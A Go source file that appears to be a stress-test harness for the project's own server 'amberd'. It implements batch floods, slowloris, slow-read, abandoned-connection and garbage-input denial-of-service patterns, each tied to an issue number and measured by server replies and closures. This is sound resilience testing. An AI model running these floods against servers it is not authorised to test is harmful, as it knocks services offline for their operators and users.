package attack

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"time"
)

var shapes = []shape{
	{"batches", "connections pipelining 40 batches of 9,000 server.ping each (issue 11.2)", 8, batches},
	{"abandon", "large batches sent, then the connection dropped after 0.5 s, over and over (issue 11.3)", 4, abandon},
	{"slowread", "3,000 pipelined headers(0,2016) per connection, replies never read (issue 11.4)", 20, slowRead},
	{"slowloris", "idle connections that never send a request (issue 11.5)", 5000, slowloris},
	{"pipeversion", "server.version pipelined with blockchain.block.headers, session after session (issue 12.1)", 16, pipeVersion},
	{"garbage", "endless input without a newline, discarded by amberd (issue 12.13)", 4, garbage},
}

// requests is n copies of a request line (ids from 0), as one batch when
// batch is set.
func requests(n int, method, params string, batch bool) []byte {
	var b strings.Builder
	if batch {
		b.WriteByte('[')
	}
	for i := range n {
		if batch && i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `{"jsonrpc":"2.0","id":%d,"method":%q,"params":%s}`, i, method, params)
		if !batch {
			b.WriteByte('\n')
		}
	}
	if batch {
		b.WriteString("]\n")
	}
	return []byte(b.String())
}

// drain reads replies until the connection ends, counting them and their
// error codes; it reports whether amberd ended it while ctx was live.
func (a *attacker) drain(ctx context.Context, c net.Conn) {
	sc := bufio.NewScanner(c)
	sc.Buffer(make([]byte, 64<<10), 64<<20)
	for sc.Scan() {
		line := sc.Bytes()
		atomic.AddInt64(&a.out.Replies, 1)
		for rest := line; ; {
			i := bytes.Index(rest, []byte(`"error":{"code":`))
			if i < 0 {
				break
			}
			rest = rest[i+len(`"error":{"code":`):]
			j := bytes.IndexAny(rest, ",}")
			if j < 0 {
				break
			}
			a.out.code(string(rest[:j]))
		}
	}
	if ctx.Err() == nil {
		atomic.AddInt64(&a.out.ClosedByAmb, 1)
	}
}

func (a *attacker) write(c net.Conn, b []byte) error {
	n, err := c.Write(b)
	atomic.AddInt64(&a.out.SentBytes, int64(n))
	return err
}

func batches(ctx context.Context, a *attacker) {
	batch := requests(9000, "server.ping", "[]", true)
	each(a.n, func(int) {
		c, err := a.dialHello(ctx)
		if err != nil {
			return
		}
		defer c.Close()
		context.AfterFunc(ctx, func() { c.Close() })
		go a.drain(ctx, c)
		for range 40 {
			if a.write(c, batch) != nil {
				break
			}
		}
		<-ctx.Done()
	})
}

func abandon(ctx context.Context, a *attacker) {
	batch := requests(9000, "blockchain.block.header", "[0]", true)
	each(a.n, func(int) {
		for ctx.Err() == nil {
			c, err := a.dialHello(ctx)
			if err != nil {
				sleep(ctx, 100*time.Millisecond)
				continue
			}
			c.SetWriteDeadline(time.Now().Add(500 * time.Millisecond))
			for range 20 {
				if a.write(c, batch) != nil {
					break
				}
			}
			sleep(ctx, 500*time.Millisecond)
			c.Close() // leaves with its replies unread
		}
	})
}

func slowRead(ctx context.Context, a *attacker) {
	reqs := requests(3000, "blockchain.block.headers", "[0,2016]", false)
	each(a.n, func(int) {
		c, err := a.dialHello(ctx)
		if err != nil {
			return
		}
		defer c.Close()
		context.AfterFunc(ctx, func() { c.Close() })
		a.write(c, reqs) // blocks once amberd stops reading; never reads
		<-ctx.Done()
	})
}

func slowloris(ctx context.Context, a *attacker) {
	var open atomic.Int64
	each(min(a.n, 50), func(w int) {
		for i := w; i < a.n && ctx.Err() == nil; i += 50 {
			c, err := a.dial(ctx)
			if err != nil {
				continue
			}
			open.Add(1)
			go func() {
				defer c.Close()
				context.AfterFunc(ctx, func() { c.Close() })
				one := make([]byte, 1)
				c.Read(one) // returns when amberd closes it (or at the end)
				if ctx.Err() == nil {
					atomic.AddInt64(&a.out.ClosedByAmb, 1)
				}
			}()
		}
	})
	<-ctx.Done()
	a.out.Note = fmt.Sprintf("%d connections established", open.Load())
}

func pipeVersion(ctx context.Context, a *attacker) {
	msg := []byte(`{"jsonrpc":"2.0","id":1,"method":"server.version","params":["pipe",["1.4","1.6"]]}` + "\n" +
		`{"jsonrpc":"2.0","id":2,"method":"blockchain.block.headers","params":[0,1]}` + "\n")
	var sessions, lost atomic.Int64
	each(a.n, func(int) {
		for ctx.Err() == nil {
			c, err := a.dial(ctx)
			if err != nil {
				continue
			}
			c.SetDeadline(time.Now().Add(10 * time.Second))
			if a.write(c, msg) == nil {
				rd := bufio.NewReader(c)
				for range 2 {
					line, err := rd.ReadString('\n')
					if err != nil {
						break
					}
					atomic.AddInt64(&a.out.Replies, 1)
					if strings.Contains(line, `"id":2`) {
						sessions.Add(1)
						if !strings.Contains(line, `"headers":[`) {
							lost.Add(1)
						}
					}
				}
			}
			c.Close()
		}
	})
	a.out.Note = fmt.Sprintf("%d sessions, %d lost the negotiation (1.4 form after a 1.6 server.version)", sessions.Load(), lost.Load())
}

func garbage(ctx context.Context, a *attacker) {
	chunk := bytes.Repeat([]byte("x"), 64<<10)
	var before atomic.Int64
	each(a.n, func(int) {
		c, err := a.dial(ctx)
		if err != nil {
			return
		}
		defer c.Close()
		context.AfterFunc(ctx, func() { c.Close() })
		a.write(c, []byte(`{"jsonrpc":"2.0","id":1,"method":"server.version","params":["x","1.4"]}`+"\n"))
		sent := int64(0)
		for ctx.Err() == nil {
			c.SetWriteDeadline(time.Now().Add(5 * time.Second))
			n, err := c.Write(chunk)
			sent += int64(n)
			atomic.AddInt64(&a.out.SentBytes, int64(n))
			if err != nil {
				if ctx.Err() == nil {
					atomic.AddInt64(&a.out.ClosedByAmb, 1)
					before.Add(sent)
				}
				return
			}
		}
	})
	if n := a.out.ClosedByAmb; n > 0 {
		a.out.Note = fmt.Sprintf("closed after %d kB of discarded input on average", before.Load()/n>>10)
	}
}
